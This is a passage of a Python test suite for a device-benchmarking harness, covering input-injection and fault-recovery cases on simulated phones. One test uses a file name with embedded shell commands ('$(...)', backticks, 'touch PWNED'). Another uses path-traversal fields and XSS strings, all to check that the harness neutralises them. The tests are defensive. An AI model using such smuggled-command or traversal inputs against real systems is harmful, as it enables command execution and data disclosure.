        run_id = store.create_run(HOSTILE, Path("t.yaml"), "0" * 64, {"asr": 1.0}, {}, plan_text="t")
        art = SimpleNamespace(sha256="a" * 64, model=HOSTILE, stage="asr", format="onnx", backend="ort-cpu",
                              quantization="fp32", size_bytes=1, path=Path("m.onnx"), inferred=[],
                              manifest_dict=lambda: {})
        store.record_artifact(art)
        chain = SimpleNamespace(name=HOSTILE, corpus=Path(HOSTILE), limit=None,
                                parts={"mel": art, "encoder": art, "decoder": art})
        spec = SimpleNamespace(key="host/a/transcribe/c", device=SimpleNamespace(id="host"), artifact=art,
                               task="transcribe", runner="host-transcribe", chain=chain,
                               settings=RunSettings(warmup_iterations=0, iterations=1, timeout_s=1))
        utt = {"id": "u1", "reference": "hello", "hypothesis": HOSTILE, "tokens": 3, "mel_ms": 1.0,
               "encoder_ms": 1.0, "decoder_ms_per_token": 1.0, "total_ms": 3.0, "audio_s": 1.0, "rtf": 0.1}
        store.record_run(run_id, spec, 0, CellResult(spec.key, "ok", started_at="t", finished_at="t",
                                                     measurement=Measurement(samples_ms=[3.0], transcripts=[utt])))
        store.set_run_status(run_id, "complete")
    proc = cli("site", "-o", "site", "--db", str(db), cwd=root)
    assert proc.returncode == 0, proc.stderr[-1500:]
    pages = list((root / "site" / "series").glob("*.html"))
    assert len(pages) == 1, "no series page for the chain"
    for page in [root / "site" / "index.html", *pages, *(root / "site" / "nights").glob("*.html")]:
        html = page.read_text()
        assert "<script>alert" not in html and "<img src=x" not in html, f"unescaped markup in {page.name}"
    assert "&lt;script&gt;alert(1)" in pages[0].read_text()  # shown, as text

@case("injection", "shell metacharacters in a build's name, pushed and run on the simulated phone")
def _(root):
    from harness.sim.adb_server import private_adb_server

    from harness.sim.sandbox import stand_in

    # The phone's shell starts in /, which is read-only: each payload goes to $TMPDIR (/data/local/tmp) first.
    name = "evil $(cd $TMPDIR; touch PWNED) `cd $TMPDIR; touch PWNED2`; cd $TMPDIR; touch PWNED3 'q\".pte"
    builds = root / "builds"
    builds.mkdir(parents=True, exist_ok=True)
    (builds / name).write_bytes(_tiny_pte_bytes())
    (builds / (name + ".manifest.json")).write_text(json.dumps(
        {"model": "evil", "stage": "vad", "backend": "xnnpack", "quantization": "fp32"}))
    tool = root / "executor_runner"
    tool.write_text(stand_in())
    phone_root = root / "phone"
    with private_adb_server() as adb:
        server, serial = adb.attach(phone_root)
        try:
            (root / "devices.yaml").write_text(textwrap.dedent(f"""
                devices:
                  - id: phone
                    platform: android
                    serial: {serial}
                    adb_port: {adb.port}
                    soc: SM8650
                    backends: [xnnpack]
                    tools: {{executor_runner: {tool}}}
                """))
            (root / "plan.yaml").write_text("name: evil\ninventory: devices.yaml\nartifacts: ['builds/*.pte']\n"
                                            "iterations: 2\nruns: 1\ntimeout_s: 60\n")
            proc = cli("run", "plan.yaml", "--db", "h.db", "-q", cwd=root)
        finally:
            adb.detach(server, serial)
    assert proc.returncode == 0, proc.stderr[-2000:]
    made = [p.name for p in phone_root.rglob("PWNED*")] + [p.name for p in root.rglob("PWNED*")]
    assert made == [], f"a command ran on the phone: {made}"
    assert any(p.name == name for p in phone_root.rglob("*.pte")), "the build is not on the phone by its own name"


@case("injection", "an iPhone result file naming paths outside its folder")
def _(root):
    """The app's result is read as data: paths in it (a job id that climbs, fields naming files elsewhere) are
    never followed.  The harness pulls nothing else from a phone (Android runners' outputs stay on the phone)."""
    from harness.cli import main as cli_main
    from harness.devices import ios_pmd3
    from tests import ios_fakes

    outside = root / "outside"
    outside.mkdir()
    canary = outside / "secret.txt"
    canary.write_text("CANARY-7f3a-never-read")
    phone = ios_fakes.FakeIPhone(root / "container")
    phone.faults.tamper_result = lambda result: {
        **result, "job_id": "../../../../" + str(outside).lstrip("/") + "/job",
        "result_path": str(canary), "latency_file": "../../../../" + str(canary).lstrip("/")}
    ipa = ios_fakes.make_ipa(root / "app" / "Bench.ipa")
    (root / "builds").mkdir()
    (root / "builds" / "tiny.pte").write_bytes(_tiny_pte_bytes())
    (root / "devices.yaml").write_text(textwrap.dedent(f"""
        devices:
          - {{id: iphone, platform: ios, udid: "{phone.udid}", app: {ipa}, bundle_id: {ios_fakes.BUNDLE_ID},
              backends: [xnnpack]}}
        """))
    (root / "plan.yaml").write_text("name: ios\ninventory: devices.yaml\nartifacts: [builds/tiny.pte]\n"
                                    "iterations: 3\nruns: 1\ntimeout_s: 60\n")
    before = sorted(p.name for p in outside.iterdir())
    ios_pmd3.use_api(ios_fakes.build_api(phone))
    try:
        code = cli_main(["run", str(root / "plan.yaml"), "--db", str(root / "h.db"), "-q"])
    finally:
        ios_pmd3.use_api(None)
    assert code == 1, f"exit {code}"
    con = sqlite3.connect(root / "h.db")
    (status, reason, log), = con.execute("SELECT status, reason, log FROM cells").fetchall()
    (run_id,) = con.execute("SELECT run_id FROM runs").fetchone()
    dump = "\n".join(con.iterdump())
    con.close()
    assert status == "failed" and "breaks the contract" in reason, (status, reason)
    assert "CANARY" not in dump, "a file named by the result was read"
    assert sorted(p.name for p in outside.iterdir()) == before, "a file appeared outside the phone's container"
    assert cli_main(["report", run_id, "--db", str(root / "h.db"), "-o", str(root / "rep")]) == 0
    assert "CANARY" not in (root / "rep" / "index.html").read_text()


# -- faults ------------------------------------------------------------------------------------------------

def _runs_stored(db: Path) -> list[tuple]:
    con = sqlite3.connect(db)
    try:
        return con.execute("SELECT cell_id, run_index, p50_ms FROM cell_runs ORDER BY cell_id, run_index").fetchall()
    finally:
        con.close()


def _wait_for_runs(db: Path, count: int, proc: subprocess.Popen, timeout_s: float = 180) -> None:
    deadline = time.time() + timeout_s
    while time.time() < deadline and proc.poll() is None:
        try:
            if db.exists() and len(_runs_stored(db)) >= count:
                return
        except sqlite3.OperationalError:
            pass
        time.sleep(0.05)
    raise AssertionError(f"fewer than {count} runs stored before the fault could be injected")


# Long enough that the signal lands mid-run: two runs are awaited first (polled every 0.05 s) and the run checked
# still going, with four more (~0.3-0.6 s each, slower on a busy machine) still to measure; every run it stores
# is measured again in full by --resume, so more only cost time.
FAULT_RUNS = 6


def _default_sigint() -> None:
    """In the child: SIGINT as a terminal would deliver it.  A shell starts background jobs with SIGINT ignored,
    and Python then installs no KeyboardInterrupt handler: Ctrl-C could not be simulated at all."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _interrupt_and_resume(root: Path, sig: int, wanted_exit: int | None, command: str = "run") -> None:
    plan = lab(root, runs=FAULT_RUNS)
    db = root / "h.db"
    extra = ["-o", str(root / "night")] if command == "nightly" else []
    proc = harness_popen(command, plan, "--db", db, "-q", "--json", *extra, cwd=root)
    _wait_for_runs(db, 2, proc)
    assert proc.poll() is None, "the run ended before the fault could be injected"
    proc.send_signal(sig)
    out, err = proc.communicate(timeout=60)
    if wanted_exit is not None:
        assert proc.returncode == wanted_exit, f"exit {proc.returncode}: {err[-1500:]}"
        assert "--resume" in err and "Traceback" not in err, err[-1500:]
    kept = _runs_stored(db)
    con = sqlite3.connect(db)
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    (run_id,) = con.execute("SELECT run_id FROM runs").fetchone()
    con.close()
    again = cli(command, str(plan), "--db", str(db), "--resume", run_id, "-q", *extra, cwd=root)
    assert again.returncode == 0, again.stderr[-1500:]
    after = _runs_stored(db)
    assert after[:len(kept)] == kept, "a run stored before the fault changed"
    assert len(after) == FAULT_RUNS and sqlite3.connect(db).execute("SELECT status FROM runs").fetchone()[0] == "complete"
    report = cli("report", run_id, "--db", str(db), "-o", "rep", cwd=root)
    assert report.returncode == 0 and (root / "rep" / "index.html").stat().st_size > 1000, report.stderr[-800:]
    if command == "nightly":  # the resumed night wrote its verdict files
        assert json.loads((root / "night" / "nightly.json").read_text())["run_id"] == run_id
        assert (root / "night" / "junit.xml").stat().st_size > 100


@case("fault", "harness killed with SIGKILL mid-run, then --resume")
def _(root):
    _interrupt_and_resume(root, signal.SIGKILL, None)


@case("fault", "harness nightly killed with SIGKILL mid-run, then --resume")
def _(root):
    _interrupt_and_resume(root, signal.SIGKILL, None, command="nightly")


@case("fault", "Ctrl-C mid-run: exit 130, then --resume")
def _(root):
    _interrupt_and_resume(root, signal.SIGINT, 130)


@case("fault", "two harness runs on the same database at once")
def _(root):
    plan = lab(root, runs=3)
    db = root / "h.db"
    procs = [harness_popen("run", plan, "--db", db, "-q", cwd=root) for _ in range(2)]  # forked, then a new one
    results = [p.communicate(timeout=300) for p in procs]
    for proc, (_, err) in zip(procs, results):
        assert proc.returncode == 0 and "locked" not in err and "Traceback" not in err, err[-1500:]
    con = sqlite3.connect(db)
    assert [s for (s,) in con.execute("SELECT status FROM runs")] == ["complete", "complete"]
    assert con.execute("SELECT COUNT(*) FROM cell_runs").fetchone()[0] == 6


@case("fault", "the disk fills up while results are written")
def _(root):
    plan = lab(root, runs=2)
    disk = root / "disk"
    disk.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(disk)], capture_output=True)
    assert mounted.returncode == 0, f"cannot simulate a full disk here: {mounted.stderr.decode()[-300:]}"
    try:
        db = disk / "h.db"
        first = cli("run", str(plan), "--db", str(db), "-q", cwd=root)
        assert first.returncode == 0, first.stderr[-1500:]
        kept = _runs_stored(db)
        try:  # fill what is left (the run's write-ahead log may have filled it already)
            with open(disk / "filler", "ab", buffering=0) as fh:
                while True:
                    fh.write(b"\0" * 4096)
        except OSError:
            pass
        second = cli("run", str(plan), "--db", str(db), "-q", cwd=root)
        assert second.returncode == 2 and "Traceback" not in second.stderr, second.stderr[-1500:]
        assert "full" in second.stderr.lower() or "space" in second.stderr.lower(), second.stderr[-800:]
        (disk / "filler").unlink(missing_ok=True)
        assert _runs_stored(db)[:len(kept)] == kept
        assert sqlite3.connect(db).execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        subprocess.run(["umount", "-l", str(disk)], capture_output=True)


# -- faults on the simulated phone: runners and the device itself ------------------------------------------

@contextmanager
def phone_lab(root: Path, runs: int = 2, timeout_s: float = 30, extra: str = "", after_a_night: bool = False):
    """A simulated phone behind a private real adb server, two builds (a, b) and a plan measuring them;
    ``after_a_night``: the phone and the results database as one clean night of this plan left them
    (:func:`_clean_phone_night`), copied into ``root``."""
    from harness.sim.adb_server import private_adb_server
    from harness.sim.sandbox import stand_in

    if after_a_night:
        night = _clean_phone_night()
        # Without its logcat, as a phone restarted: the copy's pids begin again where the night's began, and
        # `logcat --pid` would hand a runner the night's lines of its namesake too.
        shutil.copytree(night / "phone", root / "phone", symlinks=True, ignore=shutil.ignore_patterns(".logcat"))
        _copy_db(night / "h.db", root / "h.db")

    for name in ("a", "b"):
        folder = root / "builds" / name
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "tiny.pte").write_bytes(_tiny_pte_bytes() + name.encode())  # different bytes, both loadable
        (folder / "tiny.pte.manifest.json").write_text(json.dumps(
            {"model": name, "stage": "vad", "backend": "xnnpack", "quantization": "fp32"}))
    tool = root / "executor_runner"
    tool.write_text(stand_in())
    with private_adb_server() as adb:
        server, serial = adb.attach(root / "phone")
        try:
            (root / "devices.yaml").write_text(textwrap.dedent(f"""
                devices:
                  - id: phone
                    platform: android
                    serial: "{serial}"
                    adb_port: {adb.port}
                    backends: [xnnpack]
                    tools: {{executor_runner: {tool}}}
                """))
            (root / "plan.yaml").write_text(
                "name: phone\ninventory: devices.yaml\nartifacts: [builds/a/tiny.pte, builds/b/tiny.pte]\n"
                f"warmup_iterations: 0\niterations: 3\nruns: {runs}\ntimeout_s: {timeout_s}\nthermal_period_s: 0.5\n"
                + textwrap.dedent(extra))
            yield SimpleNamespace(adb=adb, server=server, serial=serial, phone=server.phone,
                                  plan=root / "plan.yaml", db=root / "h.db")
        finally:
            adb.detach(server, serial)


_NIGHT: list[Path] = []


def _clean_phone_night() -> Path:
    """A folder holding ``phone`` and ``h.db`` as one clean night of the phone lab's plan left them (builds
    pushed, the lock released): measured once per session (:func:`made_once`; a night on the simulated phone
    costs ~8 s), copied by each fault row that starts from it."""
    if not _NIGHT:
        def measure(home: Path) -> None:
            with phone_lab(home, timeout_s=300) as lab_:  # as long as a busy machine needs
                first = cli("run", str(lab_.plan), "--db", str(lab_.db), "-q", "--json", cwd=home)
                assert first.returncode == 0, first.stderr[-2000:]

        _NIGHT.append(made_once("night", measure))
    return _NIGHT[0]


def _cells(db: Path, run_id: str) -> list[tuple]:
    con = sqlite3.connect(db)
    try:
        return con.execute("SELECT cell_key, status, reason, length(log) FROM cells WHERE run_id=? ORDER BY cell_key",
                           (run_id,)).fetchall()
    finally:
        con.close()


def _run_id_of(proc: subprocess.CompletedProcess) -> str:
    assert "Traceback" not in proc.stderr, proc.stderr[-2000:]
    return json.loads(proc.stdout)["run_id"]


def _phone_fault(root: Path, arm: Callable, statuses: set[str], words: str, timeout_s: float = 30,
                 after: Callable | None = None) -> None:
    """After a night measured cleanly (:func:`_clean_phone_night`), the fault armed and the plan run again:
    every cell of the second run ends in one of ``statuses``, one of them with ``words`` in its reason; the
    harness exits 1 (not a traceback), the first night's runs are intact, the database passes its integrity check and the report renders.  Then
    ``after(lab, run_id, wall_s)``, with the phone still attached."""
    with phone_lab(root, timeout_s=timeout_s, after_a_night=True) as lab_:
        kept = _runs_stored(lab_.db)
        assert kept, "the clean night stored no run"
        arm(lab_)
        started = time.monotonic()
        second = cli("run", str(lab_.plan), "--db", str(lab_.db), "-q", "--json", cwd=root)
        wall_s = time.monotonic() - started
        assert second.returncode == 1, f"exit {second.returncode}: {second.stderr[-2000:]}"
        run_id = _run_id_of(second)
        cells = _cells(lab_.db, run_id)
        assert len(cells) == 2 and all(status in statuses for _, status, _, _ in cells), cells
        assert any(words in reason for _, _, reason, _ in cells), cells
        # Every cell says why it did not measure, and the report prints each reason (escaped as the page escapes it).
        # The store prefixes "run 1 of 2: " to a run's reason: an empty reason behind it is still no reason.
        assert all(re.sub(r"^run \d+ of \d+: ", "", reason).strip() for _, _, reason, _ in cells), \
            f"a cell without a reason: {cells}"
        assert all(log_chars < 200_000 for *_, log_chars in cells), f"a cell's log was kept whole: {cells}"
        assert _runs_stored(lab_.db)[:len(kept)] == kept, "a run stored before the fault changed"
        assert sqlite3.connect(lab_.db).execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        report = cli("report", run_id, "--db", str(lab_.db), "-o", "rep", cwd=root)
        page = (root / "rep" / "index.html").read_text()
        assert report.returncode == 0 and words in page, report.stderr[-800:]
        assert all(str(escape(reason)) in page for _, _, reason, _ in cells), "the report hides a cell's reason"
        if after is not None:
            after(lab_, run_id, wall_s)


def _nothing_left_running(phone, within_s: float = 15) -> None:
    """Every runner on the phone has ended (the harness must not leave one behind for the next cell)."""
    deadline = time.monotonic() + within_s
    while phone.busy and time.monotonic() < deadline:
        time.sleep(0.1)
    assert phone.busy == 0, f"{phone.busy} runner(s) still running on the phone"


@case("fault", "a runner that crashes on the phone (SIGSEGV)")
def _(root):
    _phone_fault(root, lambda lab_: setattr(lab_.phone.faults, "crash_runner", True), {"crashed"}, "SIGSEGV")


@case("fault", "a runner that hangs on the phone")
def _(root):
    # timeout_s 1: the runner hangs whatever the timeout (its --help too, then each cell's run), so a longer one
    # only waits longer: 2 s cost the row three more seconds.
    _phone_fault(root, lambda lab_: setattr(lab_.phone.faults, "hang_runner", True), {"timeout"}, "did not finish",
                 timeout_s=1, after=lambda lab_, run_id, wall_s: _nothing_left_running(lab_.phone))


@case("fault", "a runner that prints forever on the phone")
def _(root):
    def after(lab_, run_id, wall_s):
        _nothing_left_running(lab_.phone)
        # Two cells, each ended at its first run's timeout (1 s, SIGKILL 5 s later at most): not an endless wait.
        assert wall_s < 2 * (1 + 5) + 60, f"the run took {wall_s:.0f} s"

    # timeout_s 1: the runner prints ~3 MB a second, so even 1 s of it is over ten times the 200 000 characters
    # a cell's log keeps (the check that the log was cut keeps its power on a machine ten times slower); a longer
    # timeout only waits longer (2 s cost the row three more seconds: its --help and two cells).
    _phone_fault(root, lambda lab_: setattr(lab_.phone.faults, "chatty_runner", True), {"timeout"},
                 "did not finish", timeout_s=1, after=after)


def _controller_stopped_on_the_phone(root: Path, sig: int) -> None:
    """The controller stopped by ``sig`` while a runner hangs on the phone (timeout_s 10 minutes): within a few
    seconds nothing the run started runs on the phone (adbd's SIGHUP to the command's shell, and its trap)."""
    from harness.sim.sandbox import phone_processes

    with phone_lab(root, timeout_s=600) as lab_:
        lab_.phone.faults.hang_runner = True
        proc = harness_popen("run", lab_.plan, "--db", lab_.db, "-q", cwd=root, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 300
            while lab_.phone.busy == 0 and proc.poll() is None and time.monotonic() < deadline:
                time.sleep(0.1)
            assert lab_.phone.busy, "the runner never started on the phone"
            proc.send_signal(sig)
            proc.wait(60)
        finally:
            proc.kill()
        _nothing_left_running(lab_.phone, within_s=30)
        # Polled: on a busy machine the phone's init reaps the ended shell a moment after the runner is gone.
        deadline = time.monotonic() + 30
        while phone_processes(lab_.phone) and time.monotonic() < deadline:
            time.sleep(0.2)
        left = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in phone_processes(lab_.phone)]
        assert not left, f"a process the run started still runs on the phone: {left}"


class _HangWhenProfiling(list):
    """The phone's invocation log: the first profiling invocation (executor_runner --etdump_path) hangs until
    killed (and every one after it until the test clears hang_runner), so a signal lands while a cell is
    profiling, whatever the machine's speed."""

    def __init__(self, phone) -> None:
        super().__init__(phone.invocations)
        self.phone, self.armed = phone, True

    def append(self, invocation) -> None:
        super().append(invocation)
        if self.armed and "--etdump_path" in invocation:
            self.phone.faults.hang_runner, self.armed = True, False


@case("fault", "Ctrl-C while a phone cell is profiling: its measured runs are stored, --resume measures none again")
def _(root):
    # Catches: the last measured run stored only once the cell's profiling ended (runs_done 1 of 2 after a Ctrl-C
    # while profiling, and --resume measured run 2 again).
    with phone_lab(root, runs=2, timeout_s=600, extra="profile_runs: 1\n") as lab_:
        lab_.phone.invocations = _HangWhenProfiling(lab_.phone)
        proc = harness_popen("run", lab_.plan, "--db", lab_.db, "-q", cwd=root)
        try:
            deadline = time.monotonic() + 300
            while not (lab_.phone.faults.hang_runner and lab_.phone.busy):
                assert proc.poll() is None and time.monotonic() < deadline, "no cell was profiled"
                time.sleep(0.05)
            proc.send_signal(signal.SIGINT)
            _, err = proc.communicate(timeout=120)
        finally:
            proc.kill()
        assert proc.returncode == 130 and "Traceback" not in err, err[-1500:]
        con = sqlite3.connect(lab_.db)
        (run_id,) = con.execute("SELECT run_id FROM runs").fetchone()
        # The cell being profiled (the first to reach its last round) has both runs.
        profiled_first = con.execute("SELECT cell_id FROM cells WHERE runs_done = 2").fetchall()
        kept = con.execute("SELECT cell_id, run_index, started_at, finished_at, p50_ms FROM cell_runs "
                           "ORDER BY 1, 2").fetchall()
        con.close()
        assert len(profiled_first) == 1, kept
        lab_.phone.faults.hang_runner = False
        again = cli("run", str(lab_.plan), "--db", str(lab_.db), "--resume", run_id, "-q", cwd=root)
        assert again.returncode == 0, again.stderr[-1500:]
        con = sqlite3.connect(lab_.db)
        after = con.execute("SELECT cell_id, run_index, started_at, finished_at, p50_ms FROM cell_runs "
                            "ORDER BY 1, 2").fetchall()
        extras = [json.loads(e) for (e,) in con.execute("SELECT extra_json FROM cells")]
        con.close()
        assert set(kept) <= set(after) and len(after) == 4, "a stored run was measured again"
        assert all("profiled" in e for e in extras), "the resume did not profile the cell it was profiling"


@case("fault", "SIGKILL while a runner hangs on the phone: nothing it started keeps running there")
def _(root):
    _controller_stopped_on_the_phone(root, signal.SIGKILL)


@case("fault", "SIGTERM while a runner hangs on the phone: nothing it started keeps running there")
def _(root):
    _controller_stopped_on_the_phone(root, signal.SIGTERM)


def _back_and_resumed(root: Path, lab_, run_id: str) -> None:
    """The phone answers again (as after re-enumerating on USB); --resume measures every lost run, and
    nothing of the first night changes."""
    back = lab_.adb.adb("connect", lab_.serial)
    assert "connected" in back.stdout, back.stdout + back.stderr
    con = sqlite3.connect(lab_.db)
    faulted = {cell_id for (cell_id,) in con.execute("SELECT cell_id FROM cells WHERE run_id=?", (run_id,))}
    con.close()
    others = [r for r in _runs_stored(lab_.db) if r[0] not in faulted]
    again = cli("run", str(lab_.plan), "--db", str(lab_.db), "--resume", run_id, "-q", cwd=root)
    assert again.returncode == 0, again.stderr[-2000:]
    assert [s for _, s, _, _ in _cells(lab_.db, run_id)] == ["ok", "ok"], _cells(lab_.db, run_id)
    assert [r for r in _runs_stored(lab_.db) if r[0] not in faulted] == others, "a run of another night changed"
    con = sqlite3.connect(lab_.db)
    assert con.execute("SELECT COUNT(*) FROM cell_runs WHERE cell_id IN (%s) AND status='ok'"
                       % ",".join(map(str, faulted))).fetchone()[0] == 4  # two cells x two runs, none lost
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    con.close()


@contextmanager
def ort_phone_lab(root: Path, soc: str, tool_text: str, plan_text: str | None = None, tools: dict | None = None,
                  backends: str = "ort-qnn"):
    """A simulated SM8650 with onnxruntime_perf_test, a QNN SDK for ``soc`` and one ort-qnn build (tiny.onnx),
    measured by a plan of its own (``plan_text``: another plan, ``tools``: more of the phone's tools)."""
    from harness.runners.qnn_executor_runner import qnn_libraries
    from harness.sim.adb_server import private_adb_server

    tiny_onnx(root / "builds" / "tiny.onnx")
    (root / "builds" / "tiny.onnx.manifest.json").write_text(json.dumps({"model": "tiny", "backend": "ort-qnn"}))
    for rel in qnn_libraries(soc):
        (root / "qairt" / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / "qairt" / rel).write_text(f"stands in for {rel}\n")
    (root / "onnxruntime_perf_test").write_text(tool_text)
    tools = {"onnxruntime_perf_test": root / "onnxruntime_perf_test", "qnn_sdk": root / "qairt", **(tools or {})}
    with private_adb_server() as adb:
        server, serial = adb.attach(root / "phone")
        if soc != server.phone.props.get("ro.soc.model"):  # an inventory that cannot be checked against the phone
            del server.phone.props["ro.soc.model"]          # (Android 11 has no ro.soc.model)
        try:
            (root / "devices.yaml").write_text(textwrap.dedent(f"""
                devices:
                  - id: phone
                    platform: android
                    serial: "{serial}"
                    adb_port: {adb.port}
                    soc: {soc}
                    backends: [{backends}]
                    tools: {json.dumps({k: str(v) for k, v in tools.items()})}
                """))
            (root / "plan.yaml").write_text(plan_text or "name: q\ninventory: devices.yaml\n"
                                            "artifacts: [builds/tiny.onnx]\niterations: 3\nruns: 1\ntimeout_s: 120\n")
            yield cli("run", "plan.yaml", "--db", "h.db", "-q", "--json", cwd=root)
        finally:
            adb.detach(server, serial)


def _one_failed_cell(root: Path, proc: subprocess.CompletedProcess, *words: str) -> None:
    assert proc.returncode == 1, f"exit {proc.returncode}: {proc.stderr[-2000:]}"
    ((_, status, reason, _),) = _cells(root / "h.db", _run_id_of(proc))
    assert status == "failed" and all(w in reason for w in words), reason


@case("fault", "ort-qnn with another chip's QNN libraries: the CPU fallback is a failed cell, not NPU latency")
def _(root):
    from harness.sim.sandbox import stand_in

    with ort_phone_lab(root, "SM8550", stand_in()) as proc:  # the phone is an SM8650
        _one_failed_cell(root, proc, "did not take the whole graph", "SetupBackend failed")


@case("fault", "a phone pipeline's ort-qnn VAD with another chip's QNN libraries: a failed cell, not CPU latency")
def _(root):
    # Was measured on the CPU: the pipeline ran its VAD with -e cpu whatever the VAD's backend, and the cell was ok.
    from harness.sim.sandbox import stand_in

    builds = root / "builds"
    builds.mkdir(parents=True, exist_ok=True)
    for name, stage, companions in (("asr.pte", "asr", {"processor": "mel.pte", "tokenizer": "tok.json"}),
                                    ("llm.pte", "llm", {"tokenizer": "tok.json"})):
        (builds / name).write_bytes(_tiny_pte_bytes())  # pushed only: the VAD fails before they would run
        (builds / f"{name}.manifest.json").write_text(json.dumps(
            {"model": name[:3], "stage": stage, "backend": "xnnpack", "companions": companions}))
    (builds / "mel.pte").write_bytes(_tiny_pte_bytes())
    (builds / "tok.json").write_text("{}")
    tools = {name: root / name for name in ("whisper_runner", "llama_main")}
    for path in tools.values():
        path.write_text(stand_in())
    corpus = Path(__file__).resolve().parents[2] / "corpora" / "harvard-hibari"
    plan = ("name: p\ninventory: devices.yaml\nwarmup_iterations: 0\ntimeout_s: 120\naccuracy:\n"
            f"  corpus: {corpus}\n  limit: 1\n  chains:\n"
            "    - {name: pipe, model: builds/asr.pte, vad: builds/tiny.onnx, llm: builds/llm.pte}\n")
    with ort_phone_lab(root, "SM8550", stand_in(), plan, tools, "xnnpack, ort-qnn") as proc:  # an SM8650 phone
        _one_failed_cell(root, proc, "did not take the whole graph", "SetupBackend failed")


@case("fault", "onnxruntime_perf_test from a shared-library build with its libraries left behind")
def _(root):
    from harness.sim.sandbox import stand_in

    with ort_phone_lab(root, "SM8650", stand_in(needed=("libonnxruntime.so",))) as proc:
        _one_failed_cell(root, proc, "CANNOT LINK EXECUTABLE", "tools.onnxruntime_libs")


@case("fault", "a push cut mid-way, then --resume once the phone is back")
def _(root):
    import hashlib

    def arm(lab_):
        for build in ("a", "b"):  # new bytes: the phone must receive the builds again
            (root / "builds" / build / "tiny.pte").write_bytes(_tiny_pte_bytes() + b"2" + build.encode())
        lab_.phone.faults.drop_push_after_bytes = 1_000

    def after(lab_, run_id, wall_s):
        # Content-addressed storage on the phone holds no half file: each file's bytes hash to its folder's name.
        # Not content-addressed: work/ (the controllers' working folders), lock/ (left by the run whose phone went
        # offline; the resume below takes it over) and the marker in each build's folder saying the harness pushed it.
        from harness.devices.android import PUSHED_MARKER

        pushed = lab_.phone.root / "data/local/tmp/harness"
        stored = [p for p in pushed.rglob("*") if p.is_file() and p.relative_to(pushed).parts[0] not in ("work", "lock")
                  and p.name != PUSHED_MARKER]
        assert stored and all(hashlib.sha256(p.read_bytes()).hexdigest() == p.parent.name for p in stored), stored
        lab_.phone.faults.drop_push_after_bytes = None
        _back_and_resumed(root, lab_, run_id)

    _phone_fault(root, arm, {"lost"}, "push failed", after=after)


@case("fault", "a phone that vanishes mid-run and comes back, then --resume")
def _(root):
    def after(lab_, run_id, wall_s):
        # Both cells were on the phone that vanished: each says so (one reason of two was checked), the cell in
        # progress as the command that lost it ("adb lost the device"), the next as its device unreachable then.
        reasons = [reason for _, _, reason, _ in _cells(lab_.db, run_id)]
        assert all("adb lost the device" in r for r in reasons), reasons
        lab_.phone.faults.vanish_after_commands = None
        _back_and_resumed(root, lab_, run_id)

    _phone_fault(root, lambda lab_: setattr(lab_.phone.faults, "vanish_after_commands", lab_.phone.commands + 6),
                 {"lost"}, "adb lost the device", after=after)


@case("fault", "a second run on a phone another run is measuring: refused, naming it; --resume once it is done")
def _(root):
    """Two controllers on one phone read each other's runner lines from its logcat (one stored the other's
    iterations); the second run stores the phone's cells as lost, naming the holder, and measures nothing."""
    from harness.devices.android import Config, Device

    def arm(lab_):
        lab_.holder = Device(Config(id="other-run", platform="android", serial=lab_.serial, adb_port=lab_.adb.port))
        assert lab_.holder.prepare()[0]

    def after(lab_, run_id, wall_s):
        reasons = [reason for _, _, reason, _ in _cells(lab_.db, run_id)]
        assert all("device other-run" in r and "one after another" in r for r in reasons), reasons
        lab_.holder.close()
        _back_and_resumed(root, lab_, run_id)

    _phone_fault(root, arm, {"lost"}, "phone busy: held by another controller", after=after)


@case("fault", "another process on the phone logging ExecuTorch lines during the run")
def _(root):
    """An app or another controller's runner logging under the ExecuTorch tag while a cell measures: its
    "Iteration" lines went into the cell (the count mismatched, or a 999 ms sample was stored).  Each cell reads
    only its own runner's logcat lines (logcat --pid).  One run a cell: the neighbour logs during every runner
    invocation, so each cell's one run is as exposed as two would be."""
    with phone_lab(root, runs=1) as lab_:
        lab_.phone.faults.neighbour_logs = True
        proc = cli("run", str(lab_.plan), "--db", str(lab_.db), "-q", "--json", cwd=root)
        assert proc.returncode == 0, proc.stderr[-2000:]
        run_id = _run_id_of(proc)
        cells = _cells(lab_.db, run_id)
        assert len(cells) == 2 and all(status == "ok" for _, status, _, _ in cells), cells
        con = sqlite3.connect(lab_.db)
        try:
            samples = [ms for (ms,) in con.execute(
                "SELECT latency_ms FROM samples JOIN cells USING (cell_id) WHERE run_id=? AND phase='measured'",
                (run_id,))]
        finally:
            con.close()
        # Two builds, one run of three iterations each: the runners' own, none of the neighbour's 999 ms.
        assert len(samples) == 6 and 999.0 not in samples, samples
        assert "999.000000 ms" in lab_.phone.logcat_file.read_text(), "the neighbour logged nothing"


@case("fault", "thermal runaway on the phone")
def _(root):
    # One run a cell: the cooldown gate waits before each run, and each cell's one wait shows what two would.
    # Its timeout 0.5 s (polled every 0.1 s): how long it waits is not the point, that it waits it out and says so.
    with phone_lab(root, runs=1, extra="cooldown: {max_temp_c: 60, timeout_s: 0.5, poll_s: 0.1}\n") as lab_:
        lab_.phone.faults.hot = True
        lab_.phone.temp_c = 95.0
        proc = cli("run", str(lab_.plan), "--db", str(lab_.db), "-q", "--json", cwd=root)
        assert proc.returncode == 0, proc.stderr[-2000:]
        run_id = _run_id_of(proc)
        con = sqlite3.connect(lab_.db)
        rows = con.execute("SELECT status, throttled, cooldown_note, cooldown_wait_s, log FROM cells WHERE run_id=?",
                           (run_id,)).fetchall()
        con.close()
        # Measured, never silently: every cell says it ran hot, that the cooldown gate waited its 0.5 s and gave
        # up, and the phone's own thermal status is in its log.
        assert len(rows) == 2 and all(s == "ok" and t == 1 and "still" in note and wait_s >= 0.5
                                      and "thermal status reached level" in log
                                      for s, t, note, wait_s, log in rows), [r[:4] for r in rows]
        report = cli("report", run_id, "--db", str(lab_.db), "-o", "rep", cwd=root)
        assert report.returncode == 0 and "throttl" in (root / "rep" / "index.html").read_text().lower()


def _phone_night(root: Path, arm: Callable) -> tuple[str, list[tuple], str]:
